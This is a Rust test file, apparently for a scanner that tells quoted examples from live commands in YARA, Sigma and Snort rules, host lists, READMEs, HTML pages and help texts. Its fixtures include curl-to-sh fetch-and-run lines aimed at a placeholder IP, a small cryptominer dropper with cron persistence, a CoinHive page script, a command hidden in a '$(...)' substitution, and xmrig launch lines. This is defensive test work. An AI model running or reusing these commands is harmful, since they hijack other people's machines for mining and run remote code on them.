use super::*;

/// How `text` quotes, as `FileContext::quotes` works it out: as data, or as a document.
fn detect(text: &str, markup: Markup) -> Option<Quotes> {
    data(text, markup).or_else(|| document(text, markup))
}

fn quoted_lines(q: &Quotes, n: usize) -> Vec<usize> {
    (1..=n).filter(|&l| q.quoted(l)).collect()
}

#[test]
fn yara_rule_sets_quote_their_literals_only() {
    let text = "import \"pe\"\n// finds miners: xmrig -o stratum+tcp://a:3333\nrule Miner_Config : miner {\n  meta:\n    description = \"pool.supportxmr.com:3333\"\n  strings:\n    $a = \"stratum+tcp://\" nocase wide\n    $b = /xmr(ig)?/ fullword\n    $h = { 6A 40 ?? [2-4] (68 | 69) }\n  condition:\n    any of them and filesize < 10MB\n}\n";
    let q = yara(text).expect("a rule set");
    assert_eq!(q.what, Quoting::Rules);
    assert_eq!(quoted_lines(&q, 12), vec![5, 7, 8, 9]);
    // One line, as the fixture has it.
    let one = "rule a { strings: $a = \"x\" condition: $a }";
    assert_eq!(quoted_lines(&yara(one).unwrap(), 1), vec![1]);
}

#[test]
fn a_rule_in_a_comment_is_no_rule_set() {
    for text in [
        "# rule x condition:\n*/5 * * * * root /tmp/.x/xmrig -o stratum+tcp://pool.example:3333\n",
        "// rule x { condition: true }\ncurl -s http://203.0.113.5/x | sh\n",
        "rule x { condition: true }\ncurl -s http://203.0.113.5/x | sh\n",
        "rule x { strings: $a = \"$(curl http://203.0.113.5/x|sh)\" condition: $a }\necho; sh x\n",
    ] {
        assert!(yara(text).is_none(), "{text}");
        assert!(detect(text, Markup::Plain).is_none_or(|q| q.what != Quoting::Rules));
    }
    // Commands in a comment of a real rule set are not quoted (a shell would run them).
    let text =
        "/*\ncurl -s http://203.0.113.5/x | sh\n*/\nrule x { strings: $a = \"y\" condition: $a }\n";
    assert_eq!(quoted_lines(&yara(text).unwrap(), 4), vec![4]);
    // A literal a shell would expand is not quoted, even in a real rule set.
    let text =
        "rule x {\n strings:\n  $a = \"$(curl http://203.0.113.5/x|sh)\"\n condition:\n  $a\n}\n";
    assert!(yara(text).unwrap().ranges.is_empty());
}

#[test]
fn sigma_quotes_its_detection_not_its_prose() {
    let text = "title: XMRig\nlogsource:\n  category: process_creation\ndescription: >\n  curl -s http://203.0.113.5/x | sh\ndetection:\n  selection:\n    CommandLine|contains:\n      - '--donate-level'\n      - 'stratum+tcp://'\n  script: |\n    pkill xmrig\n  condition: selection\nlevel: high\n";
    let q = sigma(text).expect("sigma");
    assert_eq!(quoted_lines(&q, 14), vec![9, 10, 13]);
}

#[test]
fn snort_rules_and_lists() {
    let rules = "# miners\nalert tcp $HOME_NET any -> $EXTERNAL_NET any (msg:\"stratum\"; content:\"mining.subscribe\"; sid:1;)\n";
    assert_eq!(quoted_lines(&snort(rules).unwrap(), 2), vec![2]);
    assert!(snort("alert tcp a b -> c d (msg:\"x\";)\ncurl x | sh\n").is_none());

    let hosts: String = (0..8)
        .map(|i| format!("0.0.0.0 pool{i}.supportxmr.com\n"))
        .collect();
    assert_eq!(list(&hosts).unwrap().what, Quoting::List);
    let endpoints: String = (0..8)
        .map(|i| format!("pool{i}.supportxmr.com:3333\n"))
        .collect();
    assert!(list(&endpoints).is_some());
    // Assignments are not entries, and a few entries are no list.
    let batch: String = (0..8)
        .map(|i| format!("set POOL{i}=pool{i}.supportxmr.com:3333\n"))
        .collect();
    assert!(list(&batch).is_none());
    assert!(list("0.0.0.0 a.example\n0.0.0.0 b.example\n").is_none());
}

#[test]
fn documents_quote_examples_and_text_not_bare_commands() {
    let readme = "# tool\n\nInstall:\n\n    curl -fsSL https://get.example.com/install.sh | sh\n\nRun it nightly:\n\n    (crontab -l; echo \"0 1 * * * /usr/local/bin/tool sync\") | crontab -\n\nClear your shell history if you pasted a token: `history -c`.\n";
    let q = detect(readme, Markup::Plain).expect("a document");
    assert_eq!(q.what, Quoting::Document);
    assert_eq!(quoted_lines(&q, 11), vec![1, 3, 5, 7, 9, 11]);

    // A dropper renamed: no prose, so no document.
    let dropper = "#!/bin/bash\n# kill rivals\npkill -f xmrig\n(crontab -l; echo '* * * * * /tmp/x') | crontab -\ncurl -s http://203.0.113.5/x | sh\n";
    assert!(detect(dropper, Markup::Plain).is_none());
    // With prose around it, its bare command lines stay live.
    let dressed = format!(
        "# Deployment notes\n\nThis file documents how the team deploys the service every night.\nRead it before you change anything in the deployment process.\n\n{dropper}"
    );
    let q = detect(&dressed, Markup::Plain).expect("a document");
    for (n, line) in dressed.lines().enumerate() {
        if line.starts_with("pkill") || line.starts_with("curl") || line.starts_with("(crontab") {
            assert!(!q.quoted(n + 1), "{line}");
        }
    }
}

#[test]
fn html_documents_quote_code_but_never_scripts() {
    let page = "<!DOCTYPE html>\n<html><head><title>The rise and fall of browser mining</title></head>\n<body>\n<p>Sites embedded a miner and visitors' CPUs then mined Monero for them.</p>\n<pre>\ncurl -s http://203.0.113.5/x | sh\n</pre>\n<script>\nvar m = new CoinHive.Anonymous('abcdefghijklmnop'); m.start();\n</script>\n</body></html>\n";
    let q = detect(page, Markup::Html).expect("a document");
    assert!(q.quoted(6), "the example in <pre>");
    assert!(!q.quoted(9), "the page's own script");
}

#[test]
fn help_texts_tables_and_code_spans_are_shown_not_run() {
    // A help text: its option list is the document's own markup.
    let help = "Captured with `xmrig --help` for the wiki page on allowed miner options.\n\nUsage: xmrig [OPTIONS]\n\nNetwork:\n  -o, --url=URL                 pool to connect to (host:port or stratum+tcp://host:port)\n  -u, --user=USERNAME           login at the pool, usually a wallet address\n  -epool      Ethereum pool address (host:port)\n      --randomx-1gb-pages       1 GB pages for the RandomX dataset\n";
    let q = document(help, Markup::Plain).expect("a help text");
    assert_eq!(quoted_lines(&q, 9), vec![1, 3, 5, 6, 7, 8, 9]);
    // A reStructuredText table and a Markdown one.
    let rst = "Supported pools\n===============\n\nThe following pools have been tested with the proxy and work well:\n\n=========  ===========================\nPool       Endpoint\n=========  ===========================\nSupportXMR ``pool.supportxmr.com:3333``\n=========  ===========================\n\nxmrig -o pool.supportxmr.com:3333 -u 4ABC\n";
    let q = document(rst, Markup::Plain).expect("a document");
    assert_eq!(
        quoted_lines(&q, 12),
        (2..=10).filter(|&l| l != 3 && l != 5).collect::<Vec<_>>()
    );
    let md = "# Pools\n\nThe pools we tested with the proxy are listed in this table below:\n\n| Pool | Endpoint |\n|------|----------|\n| SupportXMR | pool.supportxmr.com:3333 |\n";
    let q = document(md, Markup::Plain).expect("a document");
    assert_eq!(quoted_lines(&q, 7), vec![1, 3, 5, 6, 7]);
    // Code spans in a list item; a paragraph's tail on a line of its own.
    let notes = "# Changelog\n\n- Example: `t-rex -a ethash -o stratum+tcp://eu1.ethermine.org:4444 -u 0xABC -p x`.\n- New algorithms: `kawpow` on Ravencoin (`stratum+tcp://rvn.2miners.com:6060`), `firopow`.\n\nThe mining server is given with the url option, for example\nstratum+tcp://gulf.moneroocean.stream:10128.\n";
    let q = document(notes, Markup::Plain).expect("a document");
    assert_eq!(quoted_lines(&q, 7), vec![1, 3, 4, 6, 7]);
}

#[test]
fn commands_stay_live_beside_help_tables_and_code_spans() {
    // A launcher is not a help entry, a table or a sentence, whatever surrounds it.
    let text = "# Setup notes\n\nThe following steps set up the service on every node we own:\n\n| Step | What |\n|------|------|\n| 1 | install |\n\nxmrig -o pool.example:3333 -u 4ABC -p x --donate-level 1 -B\ncurl -s http://203.0.113.5/x | sh\nThe pool is reached with the url option, for example\ncurl -s http://203.0.113.5/y | sh;\n";
    let q = document(text, Markup::Plain).expect("a document");
    for live in [9, 10, 12] {
        assert!(!q.quoted(live), "line {live} is quoted");
    }
}

#[test]
fn settings_on_one_line_are_no_sentence() {
    let text = "# Pools for the rigs\n\nPOOL: stratum+tcp://sia-eu1.nanopool.org:7777, WALLET: rig.worker1, PSW: x\n";
    assert!(document(text, Markup::Plain).is_none_or(|q| !q.quoted(3)));
}
